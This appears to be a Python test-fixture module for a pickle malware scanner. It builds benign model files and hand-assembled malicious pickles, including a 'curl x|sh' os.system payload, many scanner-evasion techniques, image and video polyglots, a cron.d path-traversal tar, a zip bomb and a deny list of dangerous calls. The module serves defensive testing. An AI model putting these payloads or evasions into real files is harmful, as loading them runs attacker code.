"""Pickle-family samples generated at test time: benign files made with the real libraries and
malicious ones hand-assembled opcode by opcode (nothing dangerous is ever pickled or run).

`benign_samples(dir)` and `malicious_samples(dir)` write every sample and return `Sample`s; the
tests, the parity test and `bench/scanners_bench.py` all use them.
"""

from __future__ import annotations

import gzip
import io
import pickle
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import joblib
import numpy as np
import torch

from scanners.report import Outcome

BAD = frozenset({Outcome.MALICIOUS, Outcome.ERROR})
HELD = frozenset({Outcome.MALICIOUS, Outcome.ERROR, Outcome.REVIEW})


@dataclass(frozen=True, slots=True)
class Sample:
    name: str
    path: Path
    expect: frozenset[Outcome]  # the outcomes that count as a correct verdict


BENIGN_NAMES: tuple[str, ...] = (
    "state_dict.pt",
    "pytorch_model.bin",
    "legacy_state_dict.bin",
    "legacy_proto4.pt",
    "full_model.pt",
    "dense_state_dict.pt",
    "typed_tensors.pt",
    "lightning.ckpt",
    "rng_state.pth",
    "array.npy",
    "object_plain.npy",
    "arrays.npz",
    "arrays_compressed.npz",
    "model.joblib",
    "model_zlib.joblib",
    "model_gzip.joblib.gz",
    "model_xz.joblib.xz",
    "numpy_proto2.pkl",
    "numpy_proto5.pkl",
    "plain_proto0.pkl",
    "plain_proto1.pkl",
    "plain_proto3.pkl",
    "pickled_tensors.pkl",
    "pickled_tensors_proto2.pkl",
    "two_pickles.pkl",
    "checkpoints.tar",
    "weights.pt.gz",
    "bundle.zip",
    "README.md",
    "config.json",
    "flax_model.msgpack",
)
TECHNIQUE_NAMES: tuple[str, ...] = (
    "proto0_global_reduce",
    "inst_exec",
    "obj_popen",
    "stack_global_proto4",
    "stack_global_via_memo",
    "memo_put_get_text",
    "memo_long_binput",
    "string_opcode_stack_global",
    "payload_then_missing_memo",
    "type_confused_stack_global",
    "payload_then_truncation",
    "payload_then_bad_opcode",
    "second_pickle_malicious",
    "newobj_denied",
    "newobj_ex_denied",
    "build_on_global",
    "setitems_on_global",
    "ext_code_unregistered",
    "reconstructor_with_os",
    "attrgetter_chain",
    "dotted_subclasses_chain",
    "unknown_module",
    "codecs_not_latin1",
    "indirect_call_on_result",
    "frame_too_long",
    "proto_6_unsupported",
    "load_from_bytes_evil_zip",
    "load_from_bytes_evil_small",
    # red team (issue 4 hardening): calls hidden in allowed functions, aliases, set mutation
    "load_from_bytes_codecs_latin1",
    "rebuild_from_type_calls_load_from_bytes",
    "randomstate_ctor_calls_load_from_bytes",
    "generator_ctor_calls_codecs",
    "bit_generator_ctor_calls_result",
    "copy_reg_alias_reconstructor_unchecked",
    "additems_on_global",
)
CONTAINER_ATTACK_NAMES: tuple[str, ...] = (
    "torch_zip_evil.pt",
    "torch_zip_evil_deflated.bin",
    "torch_zip_flag_0x1.pt",
    "torch_zip_flag_0x20.pt",
    "torch_zip_flag_0x40.pt",
    "torch_zip_crc_broken.pt",
    "torch_zip_local_name_differs.pt",
    "torch_zip_duplicate_names.pt",
    "torch_zip_traversal.pt",
    "torch_zip_evil_other_name.bin",
    "torch_zip_evil_in_storage_slot.pt",
    "torch_zip_data_after_end.pt",
    "torch_zip64_evil.pt",
    "legacy_torch_evil.bin",
    "object_array_evil.npy",
    "arrays_evil.npz",
    "joblib_evil.joblib",
    "evil.tar",
    "traversal.tar",
    "evil.pkl.gz",
    "zip_bomb.zip",
    "nested_too_deep.zip",
    "pickle_named.safetensors",
    "pickle_zip_polyglot.bin",
    "archive.7z",
    # binary `detect` cannot name, with what a loader opens where it looks (else opaque data)
    "unknown_zip_tail.bin",
    "unknown_hdf5_at_4096.bin",
    # red team: files of another format that are also pickles (pickle.load / joblib.load run them)
    "bmp_polyglot.bmp",
    "bmp_padded_polyglot.bmp",
    "gif_polyglot.gif",
    "mp4_polyglot.mp4",
    "tflite_polyglot.tflite",
    "hdf5_userblock_pickle.h5",
    "tar_header_pickle.joblib",
    "object_dtype_spelled_out.npy",
    "object_dtype_in_struct.npy",
)


def malicious_names() -> list[str]:
    """The file names `malicious_samples` writes (known without writing anything)."""
    denied = [f"denied_{module}_{name}.pkl".replace("/", "_") for module, name in DENIED_CALLS]
    return denied + [f"{n}.pkl" for n in TECHNIQUE_NAMES] + list(CONTAINER_ATTACK_NAMES)


# ---- a tiny pickle assembler (bytes only: nothing is loaded) -----------------------------------
def g(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0 form)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def u(text: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL from two string pushes."""
    return u(module) + u(name) + b"\x93"


def call(callee: bytes, *args: bytes) -> bytes:
    """callee(*args) with MARK ... TUPLE REDUCE."""
    return callee + b"(" + b"".join(args) + b"tR"


def pkl(body: bytes, proto: int = 4) -> bytes:
    return (b"\x80" + bytes([proto]) if proto >= 2 else b"") + body + b"."


def reduce_global(module: str, name: str, arg: str = "id") -> bytes:
    """The classic payload: module.name('arg') in protocol 0 opcodes."""
    return g(module, name) + b"(S'" + arg.encode() + b"'\ntR."


# ---- malicious pickles, one technique each ------------------------------------------------------
DENIED_CALLS: tuple[tuple[str, str], ...] = (
    ("os", "system"),
    ("posix", "system"),
    ("nt", "system"),
    ("subprocess", "Popen"),
    ("subprocess", "check_output"),
    ("builtins", "eval"),
    ("builtins", "exec"),
    ("builtins", "compile"),
    ("builtins", "getattr"),
    ("builtins", "setattr"),
    ("builtins", "__import__"),
    ("builtins", "open"),
    ("builtins", "breakpoint"),
    ("builtins", "input"),
    ("__builtin__", "eval"),
    ("__builtin__", "apply"),
    ("runpy", "_run_code"),
    ("importlib", "import_module"),
    ("pty", "spawn"),
    ("socket", "create_connection"),
    ("shutil", "rmtree"),
    ("pip", "main"),
    ("webbrowser", "open"),
    ("code", "interact"),
    ("pydoc", "pipepager"),
    ("pydoc", "locate"),
    ("timeit", "timeit"),
    ("cProfile", "run"),
    ("cProfile", "runctx"),
    ("profile", "Profile.run"),
    ("pdb", "run"),
    ("bdb", "Bdb.run"),
    ("trace", "Trace.runctx"),
    ("ctypes", "CDLL"),
    ("marshal", "loads"),
    ("types", "CodeType"),
    ("types", "FunctionType"),
    ("sys", "exit"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    ("multiprocessing.util", "spawnv_passfds"),
    ("torch.hub", "load"),
    ("torch", "load"),
    ("torch.jit", "load"),
    ("torch._C", "_jit_set_hook"),
    ("torch.serialization", "load"),
    ("torch._inductor.codecache", "compile_file"),
    ("torch.utils.bottleneck.__main__", "run_cprofile"),
    ("torch._dynamo.guards", "GuardBuilder.get"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
    ("torch.utils.collect_env", "run"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"),
    ("torch.utils._config_module", "ConfigModule.load_config"),
    ("numpy", "load"),
    ("numpy.testing._private.utils", "runstring"),
    ("numpy.f2py.crackfortran", "getlincoef"),
    ("operator", "attrgetter"),
    ("operator", "methodcaller"),
    ("_operator", "itemgetter"),
    ("functools", "partial"),
    ("functools", "reduce"),
    ("lib2to3.pgen2.grammar", "Grammar.loads"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
    ("idlelib.calltip", "get_entity"),
    ("doctest", "debug_script"),
    ("ensurepip", "_run_pip"),
    ("distutils.file_util", "write_file"),
    ("venv", "create"),
    ("pkgutil", "resolve_name"),
    ("io", "FileIO"),
    ("urllib.request", "urlopen"),
    ("logging", "FileHandler"),
    ("ssl", "get_server_certificate"),
    ("uuid", "_get_command_stdout"),
    ("imaplib", "IMAP4_stream"),
    ("_osx_support", "_read_output"),
    ("_aix_support", "_read_cmd_output"),
    ("_pyrepl.pager", "pipe_pager"),
    ("test.support.script_helper", "assert_python_ok"),
    ("requests.api", "get"),
    ("aiohttp", "ClientSession"),
    ("http.client", "HTTPSConnection"),
    ("transformers.models.auto.auto_factory", "getattribute_from_module"),
    ("pandas.io.parsers.readers", "read_csv"),
    ("mlflow.projects.backend.local", "_run_entry_point"),
    ("pickle", "loads"),
    ("_pickle", "loads"),
    ("dill", "loads"),
    ("cloudpickle", "loads"),
    ("joblib", "load"),
    ("builtins", "print.__class__.__base__.__subclasses__"),
    ("builtins", "__setattr__"),
    ("torch.serialization", "os"),
    ("copyreg", "add_extension"),
    ("numpy.lib.npyio", "load"),
    ("atexit", "register"),
    ("signal", "signal"),
    ("threading", "Thread"),
)


def technique_pickles() -> dict[str, tuple[bytes, frozenset[Outcome]]]:
    """Named hand-assembled streams, each one evasion technique, with the verdicts that count."""
    os_system = g("os", "system")
    return {
        "proto0_global_reduce": (reduce_global("os", "system"), BAD),
        "inst_exec": (b"(S'print(1)'\ni__builtin__\nexec\n.", BAD),
        "obj_popen": (b"(" + g("subprocess", "Popen") + b"(S'id'\nlo.", BAD),
        "stack_global_proto4": (pkl(call(sg("os", "system"), u("id"))), BAD),
        "stack_global_via_memo": (
            pkl(
                u("os")
                + b"\x94"
                + u("torch")
                + b"\x94"
                + u("system")
                + b"\x94"
                + b"h\x00h\x02\x93"
                + b"("
                + u("id")
                + b"tR",
                4,
            ),
            BAD,
        ),
        "memo_put_get_text": (
            b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vid\ntR.",
            BAD,
        ),
        "memo_long_binput": (
            pkl(
                u("os")
                + b"r\x10\x00\x00\x00"
                + u("system")
                + b"r\x11\x00\x00\x00"
                + b"j\x10\x00\x00\x00j\x11\x00\x00\x00\x93"
                + b"("
                + u("id")
                + b"tR",
                2,
            ),
            BAD,
        ),
        "string_opcode_stack_global": (b"S'os'\nS'system'\n\x93S'ls'\n\x85R.", BAD),
        "payload_then_missing_memo": (
            pkl(os_system + u("id") + b"\x85R0" + u("os") + b"\x94h\x03h\x00\x93K\x42"),
            BAD,
        ),
        "type_confused_stack_global": (
            pkl(b"J\x2a\x00\x00\x00\x94" + u("os") + b"\x94h\x00h\x01\x93"),
            BAD,
        ),
        "payload_then_truncation": (b"cbuiltins\nexec\n(X>\x00\x00\x00f = open('x', 'a')", BAD),
        "payload_then_bad_opcode": (reduce_global("os", "system")[:-1] + b"\xff\xfe", BAD),
        "second_pickle_malicious": (pickle.dumps(["a", "b"]) + reduce_global("os", "system"), BAD),
        "newobj_denied": (pkl(g("subprocess", "Popen") + b"(" + u("id") + b"t\x81", 2), BAD),
        "newobj_ex_denied": (pkl(g("subprocess", "Popen") + b"(" + u("id") + b"t}\x92", 4), BAD),
        "build_on_global": (
            pkl(g("torch._utils", "_rebuild_tensor_v2") + b"N}" + u("x") + b"Ns\x86b", 2),
            BAD,
        ),
        "setitems_on_global": (
            pkl(g("collections", "OrderedDict") + b"(" + u("k") + u("v") + b"u", 2),
            BAD,
        ),
        "ext_code_unregistered": (pkl(b"\x82\x07" + b")R", 2), BAD),
        "reconstructor_with_os": (
            pkl(
                call(
                    g("copyreg", "_reconstructor"), g("os", "system"), g("builtins", "object"), b"N"
                ),
                2,
            ),
            BAD,
        ),
        "attrgetter_chain": (
            pkl(
                call(
                    call(g("operator", "attrgetter"), u("system")),
                    call(g("builtins", "__import__"), u("os")),
                ),
                2,
            ),
            BAD,
        ),
        "dotted_subclasses_chain": (
            pkl(g("builtins", "print.__class__.__base__.__subclasses__") + b")R", 2),
            BAD,
        ),
        "unknown_module": (pkl(call(g("my_private_lib.models", "Evil"), u("x")), 2), HELD),
        "codecs_not_latin1": (pkl(call(g("_codecs", "encode"), u("x"), u("rot13")), 2), HELD),
        "indirect_call_on_result": (
            pkl(call(call(g("collections", "OrderedDict")), u("x")), 2),
            HELD,
        ),
        "frame_too_long": (
            b"\x80\x04\x95\xff\xff\xff\xff\x00\x00\x00\x00" + reduce_global("os", "system"),
            BAD,
        ),
        "proto_6_unsupported": (b"\x80\x06" + reduce_global("os", "system"), HELD),
        "load_from_bytes_evil_zip": (_load_from_bytes_pickle(torch_zip_with(EVIL)), BAD),
        "load_from_bytes_evil_small": (_load_from_bytes_pickle(EVIL), BAD),
        "load_from_bytes_codecs_latin1": (
            pkl(
                call(
                    g("torch.storage", "_load_from_bytes"),
                    call(g("_codecs", "encode"), u(EVIL.decode("latin-1")), u("latin1")),
                ),
                2,
            ),
            BAD,
        ),
        "rebuild_from_type_calls_load_from_bytes": (
            pkl(
                call(
                    g("torch._tensor", "_rebuild_from_type_v2"),
                    g("torch.storage", "_load_from_bytes"),
                    g("torch", "Tensor"),
                    b"(" + _binbytes(EVIL) + b"t",
                    b"}",
                ),
                2,
            ),
            BAD,
        ),
        "randomstate_ctor_calls_load_from_bytes": (
            pkl(
                call(
                    g("numpy.random._pickle", "__randomstate_ctor"),
                    _binbytes(EVIL),
                    g("torch.storage", "_load_from_bytes"),
                ),
                2,
            ),
            BAD,
        ),
        "generator_ctor_calls_codecs": (
            pkl(
                call(g("numpy.random._pickle", "__generator_ctor"), u("x"), g("_codecs", "encode"))
            ),
            BAD,
        ),
        "bit_generator_ctor_calls_result": (
            pkl(
                call(
                    g("numpy.random._pickle", "__bit_generator_ctor"),
                    call(g("collections", "OrderedDict")),
                )
            ),
            BAD,
        ),
        "copy_reg_alias_reconstructor_unchecked": (
            pkl(
                call(
                    g("copy_reg", "_reconstructor"),
                    call(g("collections", "OrderedDict")),
                    g("builtins", "object"),
                    b"N",
                ),
                2,
            ),
            BAD,
        ),
        "additems_on_global": (pkl(g("collections", "OrderedDict") + b"(" + u("k") + b"\x90"), BAD),
    }


def _binbytes(payload: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(payload)) + payload


def _load_from_bytes_pickle(payload: bytes) -> bytes:
    """torch.storage._load_from_bytes(payload): torch.load runs on the embedded bytes."""
    binbytes = b"B" + struct.pack("<I", len(payload)) + payload
    return pkl(call(g("torch.storage", "_load_from_bytes"), binbytes), 2)


# ---- benign files made by the real libraries ----------------------------------------------------
def _tiny_model() -> torch.nn.Module:
    torch.manual_seed(0)
    return torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.LayerNorm(3), torch.nn.ReLU())


def dense_state_dict(tensors: int = 3000) -> dict[str, torch.Tensor]:
    """An opcode-dense state dict: thousands of small tensors."""
    return {f"layers.{i}.weight": torch.zeros(2, 2) for i in range(tensors)}


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _torch_save(path: Path, obj: object, **kwargs: object) -> Path:
    torch.save(obj, path, **kwargs)  # type: ignore[arg-type]
    return path


def benign_samples(root: Path) -> list[Sample]:
    """Every benign pickle-family format, written under `root`."""
    root.mkdir(parents=True, exist_ok=True)
    model = _tiny_model()
    sd = model.state_dict()
    ok = frozenset({Outcome.CLEAN})
    writers: dict[str, Callable[[Path], Path]] = {
        "state_dict.pt": lambda p: _torch_save(p, sd),
        "pytorch_model.bin": lambda p: _torch_save(p, sd),
        "legacy_state_dict.bin": lambda p: _torch_save(p, sd, _use_new_zipfile_serialization=False),
        "legacy_proto4.pt": lambda p: _torch_save(
            p, sd, _use_new_zipfile_serialization=False, pickle_protocol=4
        ),
        "full_model.pt": lambda p: _torch_save(p, model),
        "dense_state_dict.pt": lambda p: _torch_save(p, dense_state_dict(2000)),
        "typed_tensors.pt": lambda p: _torch_save(p, _typed_tensors()),
        "lightning.ckpt": lambda p: _torch_save(p, _lightning_checkpoint(model)),
        "rng_state.pth": lambda p: _torch_save(p, _rng_state()),
        "array.npy": lambda p: _np_save(p, np.arange(12.0).reshape(3, 4)),
        "object_plain.npy": lambda p: _np_save(p, np.array([1, "x", None], dtype=object)),
        "arrays.npz": lambda p: _np_savez(p, False),
        "arrays_compressed.npz": lambda p: _np_savez(p, True),
        "model.joblib": lambda p: _joblib(p, None),
        "model_zlib.joblib": lambda p: _joblib(p, 3),
        "model_gzip.joblib.gz": lambda p: _joblib(p, ("gzip", 3)),
        "model_xz.joblib.xz": lambda p: _joblib(p, ("xz", 3)),
        "numpy_proto2.pkl": lambda p: _write(p, pickle.dumps(_numpy_values(), protocol=2)),
        "numpy_proto5.pkl": lambda p: _write(p, pickle.dumps(_numpy_values(), protocol=5)),
        "plain_proto0.pkl": lambda p: _write(p, pickle.dumps(_plain_values(), protocol=0)),
        "plain_proto1.pkl": lambda p: _write(p, pickle.dumps(_plain_values(), protocol=1)),
        "plain_proto3.pkl": lambda p: _write(p, pickle.dumps(_plain_values(), protocol=3)),
        "pickled_tensors.pkl": lambda p: _write(
            p, pickle.dumps({"w": torch.zeros(3000), "b": torch.ones(2)}, protocol=4)
        ),
        "pickled_tensors_proto2.pkl": lambda p: _write(
            p, pickle.dumps({"w": torch.zeros(3000), "b": torch.ones(2)}, protocol=2)
        ),
        "two_pickles.pkl": lambda p: _write(p, pickle.dumps([1, 2]) + pickle.dumps({"a": 1})),
        "checkpoints.tar": lambda p: _tar(
            p, [("state_dict.pt", _saved(sd)), ("README.md", b"# ok\n")]
        ),
        "weights.pt.gz": lambda p: _write(p, gzip.compress(_saved(sd))),
        "bundle.zip": lambda p: _zip(p, [("inner/model.pt", _saved(sd)), ("notes.txt", b"hello")]),
        "README.md": lambda p: _write(p, b"# A model\n\nclass names and (c) 2024 text.\n"),
        "config.json": lambda p: _write(p, b'{"model_type": "bert", "hidden_size": 8}'),
        "flax_model.msgpack": lambda p: _write(p, b"\x81\xa6params\x80"),
    }
    return [Sample(name, write(root / name), ok) for name, write in writers.items()]


def _saved(obj: object, **kwargs: object) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf, **kwargs)  # type: ignore[arg-type]
    return buf.getvalue()


def _typed_tensors() -> dict[str, object]:
    out: dict[str, object] = {
        str(dtype): torch.zeros(2, dtype=dtype)
        for dtype in (torch.float16, torch.bfloat16, torch.int8, torch.bool, torch.complex64)
    }
    out["param"] = torch.nn.Parameter(torch.ones(2))
    out["device"] = torch.device("cpu")
    out["dtype"] = torch.float32
    out["size"] = torch.Size([2, 3])
    return out


def _lightning_checkpoint(model: torch.nn.Module) -> dict[str, object]:
    optimizer = torch.optim.Adam(model.parameters())
    return {
        "epoch": 3,
        "global_step": 30,
        "pytorch-lightning_version": "2.4.0",
        "state_dict": model.state_dict(),
        "optimizer_states": [optimizer.state_dict()],
        "lr_schedulers": [],
        "hyper_parameters": {"lr": 0.001, "layers": [4, 3]},
        "callbacks": {"ModelCheckpoint": {"best_model_score": torch.tensor(0.5)}},
    }


def _rng_state() -> dict[str, object]:
    rng = np.random.RandomState(0)
    return {
        "python": (3, tuple(range(5)), None),
        "numpy": rng.get_state(),
        "cpu": torch.get_rng_state(),
    }


def _numpy_values() -> dict[str, object]:
    return {
        "a": np.arange(6.0).reshape(2, 3),
        "s": np.float32(1.5),
        "dt": np.dtype("<i4"),
        "rs": np.random.RandomState(0),
        "gen": np.random.default_rng(0),
    }


def _plain_values() -> dict[str, object]:
    return {
        "ints": [1, 2, 3],
        "text": "hé",
        "nested": {"t": (1.5, None, True)},
        "set": {1, 2},
        "b": b"x",
    }


def _np_save(path: Path, array: np.ndarray) -> Path:
    with path.open("wb") as fh:
        np.save(fh, array, allow_pickle=True)
    return path


def _np_savez(path: Path, compressed: bool) -> Path:
    arrays = {"a": np.arange(4), "b": np.ones((2, 2), dtype=np.float16)}
    with path.open("wb") as fh:
        (np.savez_compressed if compressed else np.savez)(fh, **arrays)  # type: ignore[arg-type]
    return path


def _joblib(path: Path, compress: object) -> Path:
    value = {
        "weights": np.arange(1000.0),
        "ids": np.arange(7, dtype=np.int16),
        "objs": np.array([1, None], dtype=object),
    }
    joblib.dump(value, path, compress=compress if compress is not None else 0)
    return path


def _zip(path: Path, members: list[tuple[str, bytes]]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members:
            archive.writestr(name, data)
    return path


FIXED_ZIP_DATE = (2024, 1, 1, 0, 0, 0)


def zip_bytes(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # duplicate names are a sample on purpose
        with zipfile.ZipFile(buf, "w", compression=compression) as archive:
            for name, data in members:  # a fixed date: the same bytes on every run
                info = zipfile.ZipInfo(name, date_time=FIXED_ZIP_DATE)
                info.compress_type = compression
                archive.writestr(info, data)
    return buf.getvalue()


def _tar(path: Path, members: list[tuple[str, bytes]]) -> Path:
    with tarfile.open(path, "w") as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return path


# ---- malicious containers -----------------------------------------------------------------------
EVIL = reduce_global("os", "system", "curl x|sh")


def torch_zip_with(data_pkl: bytes, *, extra: list[tuple[str, bytes]] | None = None) -> bytes:
    """A torch-like zip whose data.pkl is `data_pkl`."""
    members = [
        ("archive/data.pkl", data_pkl),
        ("archive/version", b"3\n"),
        ("archive/data/0", b"\0" * 16),
    ]
    return zip_bytes(members + (extra or []))


def _set_flag(data: bytes, flag: int) -> bytes:
    out = bytearray(data)
    for sig, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = out.find(sig)
        while pos >= 0:
            struct.pack_into("<H", out, pos + at, struct.unpack_from("<H", out, pos + at)[0] | flag)
            pos = out.find(sig, pos + 4)
    return bytes(out)


def legacy_torch_with(main_pickle: bytes) -> bytes:
    """Legacy torch.save layout: magic, protocol, sys_info, the object, the storage keys."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    return (
        magic
        + pickle.dumps(1001, protocol=2)
        + pickle.dumps({"little_endian": True}, protocol=2)
        + main_pickle
        + pickle.dumps([], protocol=2)
    )


def _npy_object_with(payload: bytes, descr: str = "'|O'") -> bytes:
    header = b"{'descr': " + descr.encode() + b", 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def _joblib_with_evil_object() -> bytes:
    buf = io.BytesIO()
    joblib.dump({"w": np.arange(10.0)}, buf)
    data = buf.getvalue()
    return data[:-1] + b"0" + EVIL  # POP the dict, then a second call in the same stream


def _bomb_zip() -> bytes:
    return zip_bytes([("big.bin", b"\0" * (64 * 1024 * 1024))], compression=zipfile.ZIP_DEFLATED)


def _nested(depth: int) -> bytes:
    data = EVIL
    for level in range(depth):
        data = zip_bytes([(f"level{level}.zip" if level else "evil.pkl", data)])
    return data


def _traversal_tar() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as archive:
        info = tarfile.TarInfo("../../etc/cron.d/evil")
        info.size = 4
        archive.addfile(info, io.BytesIO(b"x\n\n\n"))
    return buf.getvalue()


def torchscript_bytes() -> bytes:
    """A real TorchScript archive (`torch.jit.script` warns that it is deprecated: not our test)."""
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.save(torch.jit.script(_tiny_model()), buf)
    return buf.getvalue()


def container_attacks() -> dict[str, tuple[bytes, frozenset[Outcome]]]:
    """Zip/tar/torch/numpy/joblib files, each hiding a payload or lying in its structure."""
    evil_zip = torch_zip_with(EVIL)
    renamed = bytearray(evil_zip)
    first = renamed.find(b"archive/data.pkl")
    renamed[first : first + 16] = b"archive/datap.kl"
    crc_broken = bytearray(evil_zip)
    crc_at = crc_broken.find(b"curl x|sh")
    crc_broken[crc_at : crc_at + 4] = b"wget"
    return {
        "torch_zip_evil.pt": (evil_zip, BAD),
        "torch_zip_evil_deflated.bin": (
            zip_bytes([("archive/data.pkl", EVIL)], zipfile.ZIP_DEFLATED),
            BAD,
        ),
        "torch_zip_flag_0x1.pt": (_set_flag(evil_zip, 0x1), BAD),
        "torch_zip_flag_0x20.pt": (_set_flag(evil_zip, 0x20), BAD),
        "torch_zip_flag_0x40.pt": (_set_flag(evil_zip, 0x40), BAD),
        "torch_zip_crc_broken.pt": (bytes(crc_broken), BAD),
        "torch_zip_local_name_differs.pt": (bytes(renamed), BAD),
        "torch_zip_duplicate_names.pt": (
            zip_bytes([("archive/data.pkl", pickle.dumps(1)), ("archive/data.pkl", EVIL)]),
            BAD,
        ),
        "torch_zip_traversal.pt": (zip_bytes([("../../evil.pkl", pickle.dumps(1))]), BAD),
        "torch_zip_evil_other_name.bin": (zip_bytes([("archive/data.txt", EVIL)]), BAD),
        "torch_zip_evil_in_storage_slot.pt": (
            torch_zip_with(pickle.dumps(1), extra=[("archive/extra.pkl", EVIL)]),
            BAD,
        ),
        "torch_zip_data_after_end.pt": (evil_zip + b"trailing", BAD),
        "torch_zip64_evil.pt": (_zip64(EVIL), BAD),
        "legacy_torch_evil.bin": (legacy_torch_with(EVIL), BAD),
        "object_array_evil.npy": (_npy_object_with(EVIL), BAD),
        "arrays_evil.npz": (zip_bytes([("a.npy", _npy_object_with(EVIL))]), BAD),
        "joblib_evil.joblib": (_joblib_with_evil_object(), BAD),
        "evil.tar": (_tar_bytes([("pickle", EVIL)]), BAD),
        "traversal.tar": (_traversal_tar(), BAD),
        "evil.pkl.gz": (gzip.compress(EVIL), BAD),
        "zip_bomb.zip": (_bomb_zip(), BAD),
        "nested_too_deep.zip": (_nested(7), BAD),
        "pickle_named.safetensors": (EVIL, BAD),
        "pickle_zip_polyglot.bin": (pickle.dumps([1]) + evil_zip, BAD),
        "archive.7z": (b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 30, HELD),
        "unknown_zip_tail.bin": (bytes(range(1, 200)) * 3 + b"PK\x05\x06" + b"\xff" * 18, HELD),
        "unknown_hdf5_at_4096.bin": (_hdf5_signature_at(bytes(range(1, 200)) * 30, 4096), HELD),
        **polyglot_attacks(),
    }


def _hdf5_signature_at(data: bytes, offset: int) -> bytes:
    """The HDF5 signature at a user-block offset h5py tries (512 x 2^n) that `detect` does not."""
    return data[:offset] + b"\x89HDF\r\n\x1a\n" + data[offset + 8 :]


# A pickle body that first drops what the other format's magic pushed: POP, then the payload.
_AFTER_MAGIC = b"0" + reduce_global("os", "system", "curl x|sh")


def polyglot_attacks() -> dict[str, tuple[bytes, frozenset[Outcome]]]:
    """Files whose magic says image/video/HDF5/tar/npy, which `pickle.load` runs all the same."""
    return {
        # BMP: "B" is BINBYTES, its length the "M" and the file-size field: set it to skip on
        "bmp_polyglot.bmp": (b"BM\x00\x00\x00" + b"\x00" * 77 + _AFTER_MAGIC, BAD),
        "bmp_padded_polyglot.bmp": (
            b"BM\x00\x00\x00" + b"\x00" * 77 + b"0" + _binbytes(b"\0" * 200_000) + _AFTER_MAGIC,
            BAD,
        ),
        # GIF: "G" is BINFLOAT, eating "IF89a" and three bytes of the screen descriptor
        "gif_polyglot.gif": (b"GIF89a\x01\x00\x01" + _AFTER_MAGIC, BAD),
        # ISO media / TFLite: the magic at offset 4 sits inside a SHORT_BINSTRING
        "mp4_polyglot.mp4": (b"U\x0a\x00\x00ftypisom" + _AFTER_MAGIC, BAD),
        "tflite_polyglot.tflite": (b"U\x06\x00\x00TFL3" + _AFTER_MAGIC, BAD),
        "hdf5_userblock_pickle.h5": (_h5_with_userblock(reduce_global("os", "system")), BAD),
        "tar_header_pickle.joblib": (_tar_that_is_a_pickle(), BAD),
        "object_dtype_spelled_out.npy": (_npy_object_with(EVIL, descr="'object'"), BAD),
        "object_dtype_in_struct.npy": (_npy_object_with(EVIL, descr="[('a', 'object_')]"), BAD),
    }


def _h5_with_userblock(payload: bytes) -> bytes:
    """A real HDF5 file (h5py) whose 512-byte user block holds a pickle."""
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w", userblock_size=512) as h5:
        h5.create_dataset("w", data=np.zeros(4))
    data = bytearray(buf.getvalue())
    data[: len(payload)] = payload
    return bytes(data)


def _tar_that_is_a_pickle() -> bytes:
    """A valid tar whose header reads as a protocol 0 STRING ending in the member's data."""
    data = b"'\n" + _AFTER_MAGIC
    return _tar_bytes([("S'a", data)])


def _zip64(payload: bytes) -> bytes:
    buf = io.BytesIO()
    with (
        zipfile.ZipFile(buf, "w") as archive,
        archive.open("archive/data.pkl", "w", force_zip64=True) as fh,
    ):
        fh.write(payload)
    return buf.getvalue()


def _tar_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def malicious_samples(root: Path) -> list[Sample]:
    """Every malicious technique, written under `root`."""
    root.mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []
    for module, name in DENIED_CALLS:
        fname = f"denied_{module}_{name}.pkl".replace("/", "_")
        samples.append(Sample(fname, _write(root / fname, reduce_global(module, name)), BAD))
    for label, (data, expect) in {**technique_pickles(), **container_attacks()}.items():
        fname = label if "." in label else f"{label}.pkl"
        samples.append(Sample(fname, _write(root / fname, data), expect))
    return samples
